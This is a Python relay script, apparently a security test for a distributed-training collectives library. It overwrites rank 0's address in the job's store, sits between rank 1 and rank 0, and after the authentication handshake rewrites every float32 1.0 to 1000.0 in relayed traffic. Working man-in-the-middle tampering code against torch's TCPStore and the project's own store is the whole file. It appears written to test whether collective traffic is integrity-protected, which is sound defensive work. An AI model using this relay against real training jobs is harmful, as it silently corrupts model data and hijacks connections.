"""A man in the middle between rank 1 and rank 0 of a socket-transport job.

    python relay.py {torch|ours} HOST PORT KEY

It waits in the job's store for rank 0's published address (``KEY``), puts its own listener
there, and says so under ``relay/ready``; rank 1 then dials the relay, which dials rank 0 and
forwards every byte both ways, the authentication handshake untouched, except that it rewrites
every float32 1.0 after the handshake to 1000.0. ``torch``: the store is torch's TCPStore,
which anyone who reaches its port may write (no secret used). ``ours``: our store, which
authenticates, so the relay stands for an attacker on the network path who can redirect a
connection: it uses $COLLECTIVES_SECRET only to move the address, never on the relayed
connection. Prints ``rewrote N`` when either side closes.
"""
import select
import socket
import sys
import threading
from datetime import timedelta

ONE, THOUSAND = b"\x00\x00\x80\x3f", b"\x00\x00\x7a\x44"   # float32 1.0, 1000.0
HANDSHAKE = {"to rank 0": 81, "to rank 1": 81}   # 40 + 41 bytes one way, 81 the other
rewrote = 0


def store_client(kind, host, port):
    if kind == "torch":
        import torch.distributed as td
        return td.TCPStore(host, port, is_master=False, timeout=timedelta(seconds=60))
    from collectives.store import TCPStore
    return TCPStore(host, port, timeout=60)


def forward(src, dst, direction):
    """Copy src to dst; after the handshake's bytes, rewrite ONE to THOUSAND. A tail that may
    begin the pattern waits for the next bytes (or 20 ms of silence) before it goes on."""
    global rewrote
    passed, held = 0, b""
    while True:
        ready, _, _ = select.select([src], [], [], 0.02)
        if not ready:
            if held:
                dst.sendall(held)
                held = b""
            continue
        data = src.recv(1 << 16)
        if not data:
            dst.sendall(held)
            dst.shutdown(socket.SHUT_WR)
            return
        data = held + data
        clear = max(0, min(len(data), HANDSHAKE[direction] - passed))
        head, body = data[:clear], data[clear:]
        rewrote += body.count(ONE)
        body = body.replace(ONE, THOUSAND)
        keep = next((k for k in (3, 2, 1) if len(body) >= k and ONE.startswith(body[-k:])), 0)
        held = body[len(body) - keep:] if keep else b""
        out = head + body[:len(body) - keep]
        passed += len(out)
        dst.sendall(out)


def main():
    kind, host, port, key = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
    store = store_client(kind, host, port)
    store.wait([key])
    real_host, real_port = store.get(key).decode().rsplit(":", 1)
    listener = socket.create_server(("127.0.0.1", 0))
    store.set(key, f"127.0.0.1:{listener.getsockname()[1]}")
    store.set("relay/ready", "1")
    rank1, _ = listener.accept()
    rank0 = socket.create_connection((real_host, int(real_port)))
    for s in (rank0, rank1):
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    legs = [threading.Thread(target=forward, args=(rank1, rank0, "to rank 0"), daemon=True),
            threading.Thread(target=forward, args=(rank0, rank1, "to rank 1"), daemon=True)]
    for leg in legs:
        leg.start()
    while all(leg.is_alive() for leg in legs):
        legs[0].join(0.05)
    print(f"rewrote {rewrote}", flush=True)


if __name__ == "__main__":
    main()
